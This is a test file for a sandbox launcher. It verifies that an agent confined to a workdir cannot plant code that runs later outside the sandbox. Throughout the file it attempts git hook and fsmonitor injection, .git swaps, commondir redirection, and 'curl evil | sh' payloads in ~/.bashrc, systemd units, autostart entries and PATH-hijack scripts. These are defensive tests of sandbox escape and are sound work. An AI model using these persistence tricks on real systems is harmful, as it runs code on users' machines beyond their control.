import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawnSandboxed } from '@nemoclaw/native';
import { afterEach, describe, expect, it } from 'vitest';
import {
  type AttackWorld,
  createWorld,
  expectSucceeded,
  inSandbox,
  launcherPath,
  outside,
  probeInside,
  probeOutside,
  runningAsRoot,
  shippedPolicy,
  writePlanFile,
} from './support/harness.ts';

// Persistence: code the agent plants inside its workdir (or home) that runs LATER, outside the
// sandbox, when the person uses their shell, git or editor. Each test uses a fresh world.
let world: AttackWorld;
afterEach(() => world.dispose());

function fresh(label: string): AttackWorld {
  world = createWorld(label);
  return world;
}

const inside = (args: string[]) => probeInside(args, { world, policy: shippedPolicy('default', world) });
const insideHome = (args: string[]) =>
  probeInside(args, { world, policy: shippedPolicy('default', world, world.home), workdir: world.home });

describe('git hooks and config', () => {
  it('a new .git/hooks script cannot be written (read-only bind: EROFS)', async () => {
    fresh('hooks');
    const hook = join(world.workdir, '.git', 'hooks', 'post-checkout');
    expect((await inside(['write', hook, '#!/bin/sh\ntouch /tmp/pwned\n'])).outcome).toBe('EROFS');
    expect(existsSync(hook)).toBe(false);
    expectSucceeded(probeOutside(['write', hook])); // control
  });

  it('.git/config cannot be rewritten, removed or renamed', async () => {
    fresh('gitconfig');
    const config = join(world.workdir, '.git', 'config');
    const before = readFileSync(config, 'utf8');
    expect((await inside(['append', config, '[core]\n\tfsmonitor = touch PWNED\n'])).outcome).toBe('EROFS');
    expect((await inside(['unlink', config])).outcome).toBe('EBUSY');
    expect((await inside(['rename', config, `${config}.old`])).outcome).toBe('EBUSY');
    expect(readFileSync(config, 'utf8')).toBe(before);
    const viaGit = await inSandbox(['git', 'config', 'core.fsmonitor', 'touch PWNED'], {
      world,
      policy: shippedPolicy('default', world),
    });
    expect(viaGit.code).not.toBe(0);
    expect(readFileSync(config, 'utf8')).toBe(before);
  });

  it('.git/hooks cannot be replaced by a symlink or removed (mount point: EBUSY)', async () => {
    fresh('hooks-symlink');
    const hooks = join(world.workdir, '.git', 'hooks');
    expect((await inside(['rename', hooks, join(world.workdir, '.git', 'hooks-old')])).outcome).toBe('EBUSY');
    // out of .git: EXDEV, .git itself is a mount point (pinned)
    expect((await inside(['rename', hooks, join(world.workdir, 'hooks-old')])).outcome).toBe('EXDEV');
    expect((await inside(['rmdir', hooks])).outcome).toBe('EBUSY');
    expect((await inside(['symlink', '/tmp', hooks])).outcome).toBe('EEXIST');
    expectSucceeded(probeOutside(['rename', hooks, join(world.workdir, 'hooks-old')])); // control
  });

  it('moving the protected parent .git aside and planting a new .git must not work (.git pinned: EBUSY)', async () => {
    // Fixed (finding 4): mv .git .git-old would keep the read-only hooks/config mounts attached to
    // .git-old and leave a writable copy in place of .git; .git is now a mount point itself.
    fresh('git-parent');
    const marker = join(world.workdir, 'PWNED_BY_SANDBOX');
    const result = await inSandbox(
      [
        'sh',
        '-c',
        'mv .git .git-old && cp -r .git-old .git-new && mv .git-new .git && git config core.fsmonitor "touch PWNED_BY_SANDBOX #"; echo "rc=$?"',
      ],
      { world, policy: shippedPolicy('default', world) },
    );
    try {
      execFileSync('git', ['-C', world.workdir, 'status', '--short'], { stdio: 'ignore' });
    } catch {
      // a broken repository is fine; code execution is not
    }
    expect({ sandbox: result.stdout.trim(), codeRanOutside: existsSync(marker) }).toEqual({
      sandbox: expect.not.stringMatching(/rc=0/),
      codeRanOutside: false,
    });
    expect(result.stderr).toMatch(/busy/i);
  });

  // Fixed (finding 4c): a missing .git/commondir gets a read-only placeholder naming the
  // repository itself ("."), which git outside reads exactly as if the file were missing.
  it('.git/commondir cannot redirect git to a config (and hooks) the sandbox wrote', async () => {
    // Without touching the read-only .git/config or .git/hooks: git reads config and hooks from
    // $GIT_DIR/commondir when that file exists (the linked-worktree mechanism).
    fresh('commondir');
    const marker = join(world.workdir, 'PWNED_BY_COMMONDIR');
    await inSandbox(
      [
        'sh',
        '-c',
        `cp -r .git .common && rm -f .common/commondir && git config -f .common/config core.fsmonitor "touch ${marker} #" && echo ../.common > .git/commondir; echo "rc=$?"`,
      ],
      { world, policy: shippedPolicy('default', world) },
    );
    try {
      execFileSync('git', ['-C', world.workdir, 'status', '--short'], { stdio: 'ignore' });
    } catch {
      // a broken repository is fine; code execution is not
    }
    expect(existsSync(marker)).toBe(false);
  });

  it('in a repository without .git/hooks, a hook cannot be planted (read-only placeholder)', async () => {
    // e.g. a repository created by a tool that does not write the sample hooks
    fresh('no-hooks');
    execFileSync('rm', ['-rf', join(world.workdir, '.git', 'hooks')]);
    const hook = join(world.workdir, '.git', 'hooks', 'pre-commit');
    await inSandbox(
      [
        'sh',
        '-c',
        `mkdir -p ${join(world.workdir, '.git', 'hooks')} && printf '#!/bin/sh\\ntouch PWNED\\n' > ${hook} && chmod +x ${hook}`,
      ],
      {
        world,
        policy: shippedPolicy('default', world),
      },
    );
    expect(existsSync(hook)).toBe(false);
    expect(existsSync(join(world.workdir, '.git', 'hooks'))).toBe(false); // the placeholder is gone
    expectSucceeded(probeOutside(['mkdir', join(world.workdir, '.git', 'hooks')])); // control
  });

  it('control: the same .git swap outside the sandbox does run the planted command', () => {
    fresh('git-parent-control');
    execFileSync(
      'sh',
      [
        '-c',
        'mv .git .git-old && cp -r .git-old .git && git config core.fsmonitor "touch PWNED_OUTSIDE #" && git status --short',
      ],
      { cwd: world.workdir, stdio: 'ignore' },
    );
    expect(existsSync(join(world.workdir, 'PWNED_OUTSIDE'))).toBe(true);
  });
});

describe('shell start-up files (home directory as workdir)', () => {
  it('an existing ~/.bashrc is masked: writes go nowhere, the real file is unchanged, it cannot be replaced', async () => {
    fresh('bashrc');
    const before = readFileSync(world.secrets.bashrc, 'utf8');
    const write = await insideHome(['write', world.secrets.bashrc, 'curl evil | sh\n']);
    expect(['ok', 'EACCES', 'EROFS', 'EPERM']).toContain(write.outcome); // ok = it went to /dev/null
    expect(readFileSync(world.secrets.bashrc, 'utf8')).toBe(before);
    expect((await insideHome(['read', world.secrets.bashrc])).stdout.trim()).toBe('ok 0');
    expect((await insideHome(['rename', world.secrets.bashrc, join(world.home, 'bashrc-old')])).outcome).toBe(
      'EBUSY',
    );
    expect((await insideHome(['unlink', world.secrets.bashrc])).outcome).toBe('EBUSY');
    expectSucceeded(probeOutside(['write', world.secrets.bashrc, '# changed outside\n'])); // control
  });

  // Fixed (finding 5c): missing start-up files get read-only placeholders with a neutral content
  // (comments; ~/.bash_profile falls through to what bash reads without it), removed at exit.
  it.each(['.profile', '.zshrc', '.bash_profile', '.gitconfig'])(
    'a missing ~/%s cannot be created either',
    async (name) => {
      fresh('rc-missing');
      const path = join(world.home, name);
      const attempt = await insideHome(['write', path, 'curl evil | sh\n']);
      // EROFS (read-only placeholder), or ok when the policy also denies it (masked by /dev/null)
      expect({ outcome: attempt.outcome, created: existsSync(path) }).toEqual({
        outcome: expect.stringMatching(/^(EROFS|ok)$/),
        created: false,
      });
      expect((await insideHome(['read', path])).outcome).toBe('ok');
    },
  );
});

describe('other persistence points in the home directory (home directory as workdir)', () => {
  it('~/.ssh cannot be replaced by a symlink, moved or removed (masked mount point)', async () => {
    fresh('ssh-replace');
    const ssh = join(world.home, '.ssh');
    expect((await insideHome(['rename', ssh, join(world.home, 'ssh-old')])).outcome).toBe('EBUSY');
    expect((await insideHome(['rmdir', ssh])).outcome).toBe('EBUSY');
    expect((await insideHome(['symlink', '/tmp', ssh])).outcome).toBe('EEXIST');
    expectSucceeded(probeOutside(['rename', ssh, join(world.home, 'ssh-old')])); // control
  });

  it.each([
    [
      'a systemd user unit',
      '.config/systemd/user/agent.service',
      '[Service]\nExecStart=/bin/sh -c "curl evil | sh"\n',
    ],
    [
      'an autostart entry',
      '.config/autostart/agent.desktop',
      '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n',
    ],
    ['a PATH hijack in ~/.local/bin', '.local/bin/git', '#!/bin/sh\ncurl evil | sh\n'],
  ])('%s cannot be planted (read-only placeholder, parent pinned)', async (_name, relative, content) => {
    fresh('home-persistence');
    const path = join(world.home, relative);
    const directory = path.slice(0, path.lastIndexOf('/'));
    await inSandbox(
      ['sh', '-c', `mkdir -p '${directory}' && printf '${content}' > '${path}'; echo "rc=$?"`],
      {
        world,
        policy: shippedPolicy('default', world, world.home),
        workdir: world.home,
      },
    );
    expect(existsSync(path)).toBe(false);
    expect(existsSync(join(world.home, relative.split('/')[0] ?? ''))).toBe(false); // placeholders removed
  });
});

describe('editor and agent configuration in the workdir', () => {
  it('existing .vscode and .mcp.json are pinned read-only', async () => {
    fresh('editor-existing');
    mkdirSync(join(world.workdir, '.vscode'));
    writeFileSync(join(world.workdir, '.vscode', 'settings.json'), '{}\n');
    writeFileSync(join(world.workdir, '.mcp.json'), '{"mcpServers":{}}\n');
    const tasks = join(world.workdir, '.vscode', 'tasks.json');
    expect(['EROFS', 'EACCES']).toContain((await inside(['write', tasks, '{"tasks":[]}'])).outcome);
    expect(['EROFS', 'EACCES']).toContain(
      (await inside(['append', join(world.workdir, '.mcp.json'), ' '])).outcome,
    );
    expect(existsSync(tasks)).toBe(false);
    expectSucceeded(probeOutside(['write', tasks])); // control
  });

  it.each([
    ['.vscode/tasks.json', '.vscode'],
    ['.claude/settings.json', '.claude'],
    ['.idea/workspace.xml', '.idea'],
  ])('a missing %s cannot be created (read-only placeholder directory)', async (file, directory) => {
    fresh('editor-missing');
    const result = await inSandbox(
      ['sh', '-c', `mkdir -p ${directory} && printf x > ${file}; echo "rc=$?"`],
      {
        world,
        policy: shippedPolicy('default', world),
      },
    );
    expect(result.stderr).toMatch(/Read-only file system/);
    expect(existsSync(join(world.workdir, file))).toBe(false);
    expect(existsSync(join(world.workdir, directory))).toBe(false); // the placeholder is removed at exit
    expectSucceeded(probeOutside(['mkdir', join(world.workdir, directory)])); // control
  });

  // Fixed (finding 5c): read-only placeholder files (.mcp.json declaring no servers, an empty
  // .gitmodules), removed at exit.
  it.each([['.mcp.json'], ['.gitmodules']])('a missing %s cannot be created', async (file) => {
    fresh('editor-missing-file');
    const result = await inSandbox(['sh', '-c', `printf x > ${file}; echo "rc=$?"`], {
      world,
      policy: shippedPolicy('default', world),
    });
    expect(result.stderr).toMatch(/Read-only file system/);
    expect(existsSync(join(world.workdir, file))).toBe(false);
    expectSucceeded(probeOutside(['write', join(world.workdir, file)])); // control
  });
});

describe('placeholders: invisible in effect outside, shared between sandboxes, never left to the user', () => {
  /** A sandbox waiting on its stdin; `release(line)` lets it go on, `exited` resolves at exit. */
  async function waiting(script: string) {
    const sandbox = spawnSandboxed(
      shippedPolicy('default', world),
      ['sh', '-c', `echo ready; read line; ${script}`],
      {
        workdir: world.workdir,
        home: world.home,
        env: { PATH: '/usr/bin:/bin', HOME: world.home, LANG: 'C.UTF-8' },
        launcherPath: launcherPath(),
      },
    );
    let stdout = '';
    let stderr = '';
    sandbox.stderr?.on('data', (chunk: Buffer) => {
      stderr += chunk.toString();
    });
    await new Promise<void>((resolve, reject) => {
      sandbox.stdout?.on('data', (chunk: Buffer) => {
        stdout += chunk.toString();
        if (stdout.includes('ready')) resolve();
      });
      sandbox.exited.then(() => reject(new Error(`sandbox exited early: ${stderr}`)), reject);
    });
    return {
      sandbox,
      release: async (line = 'go') => {
        sandbox.stdin?.end(`${line}\n`);
        const exit = await sandbox.exited;
        return { exit, stdout, stderr };
      },
    };
  }
  const created = ['.git/commondir', '.mcp.json', '.gitmodules', '.idea'];

  it('while a sandbox runs, git outside reads the repository as before; user edits outside are kept', async () => {
    fresh('placeholder-outside');
    const running = await waiting('true');
    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(true);
    expect(readFileSync(join(world.workdir, '.git', 'commondir'), 'utf8')).toBe('.\n');
    expect(JSON.parse(readFileSync(join(world.workdir, '.mcp.json'), 'utf8'))).toEqual({ mcpServers: {} });
    const git = (args: string[]) =>
      execFileSync('git', ['-C', world.workdir, ...args], {
        encoding: 'utf8',
        stdio: ['ignore', 'pipe', 'pipe'],
      });
    expect(git(['rev-parse', '--path-format=absolute', '--git-common-dir']).trim()).toBe(
      join(world.workdir, '.git'),
    );
    git(['-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '--allow-empty', '-qm', 'outside']);
    expect(git(['log', '--oneline', '-1'])).toMatch(/outside/);
    writeFileSync(join(world.workdir, '.gitmodules'), '# the user wrote this meanwhile\n');
    await running.release();
    for (const name of ['.git/commondir', '.mcp.json', '.idea'])
      expect(existsSync(join(world.workdir, name))).toBe(false);
    expect(readFileSync(join(world.workdir, '.gitmodules'), 'utf8')).toBe(
      '# the user wrote this meanwhile\n',
    );
  });

  it('two sandboxes on one workdir: the first to exit leaves the placeholders the other still relies on', async () => {
    fresh('placeholder-shared');
    const first = await waiting('true');
    const second = await waiting(
      'printf x > .mcp.json; echo "mcp=$?"; mkdir -p .idea/x; echo "idea=$?"; echo ../x > .git/commondir; echo "commondir=$?"',
    );
    await first.release();
    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(true); // still in use
    const attempt = await second.release();
    expect(attempt.stdout).toMatch(/mcp=[1-9]/);
    expect(attempt.stdout).toMatch(/idea=[1-9]/);
    expect(attempt.stdout).toMatch(/commondir=[1-9]/);
    expect(attempt.stderr).toMatch(/Read-only file system/);
    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(false); // the last one out
  });

  it.runIf(runningAsRoot)(
    'a mount the caller has at a placeholder path is left alone (the launcher unmounts nothing of the host)',
    () => {
      // As root and without a user namespace the launcher could detach host mounts: it must not try.
      fresh('placeholder-host-mount');
      const source = join(world.root, 'vscode-source');
      const target = join(world.workdir, '.vscode');
      mkdirSync(source);
      mkdirSync(target);
      execFileSync('mount', ['--bind', source, target]);
      try {
        const path = writePlanFile(shippedPolicy('default', world), ['true'], world, 'host-mount-plan.json');
        const plan = JSON.parse(readFileSync(path, 'utf8'));
        plan.namespaces.user = false;
        writeFileSync(path, JSON.stringify(plan));
        expect(outside([launcherPath(), '--plan-file', path]).code).toBe(0);
        expect(readFileSync('/proc/self/mountinfo', 'utf8')).toContain(` ${target} `);
      } finally {
        execFileSync('umount', [target]);
      }
    },
  );

  it('placeholders a SIGKILLed launcher left behind are adopted and removed by the next sandbox', async () => {
    fresh('placeholder-killed');
    const killed = await waiting('true');
    killed.sandbox.kill('SIGKILL');
    await killed.sandbox.exited.catch(() => undefined);
    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(true); // left behind
    expectSucceeded(await inside(['write', join(world.workdir, 'ordinary-file')])); // a later run
    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(false);
    // the user's own (unmarked) .mcp.json is bound read-only but never removed
    writeFileSync(join(world.workdir, '.mcp.json'), '{"mcpServers":{}}\n');
    expect((await inside(['append', join(world.workdir, '.mcp.json'), ' '])).outcome).toBe('EROFS');
    expect(readFileSync(join(world.workdir, '.mcp.json'), 'utf8')).toBe('{"mcpServers":{}}\n');
  });
});
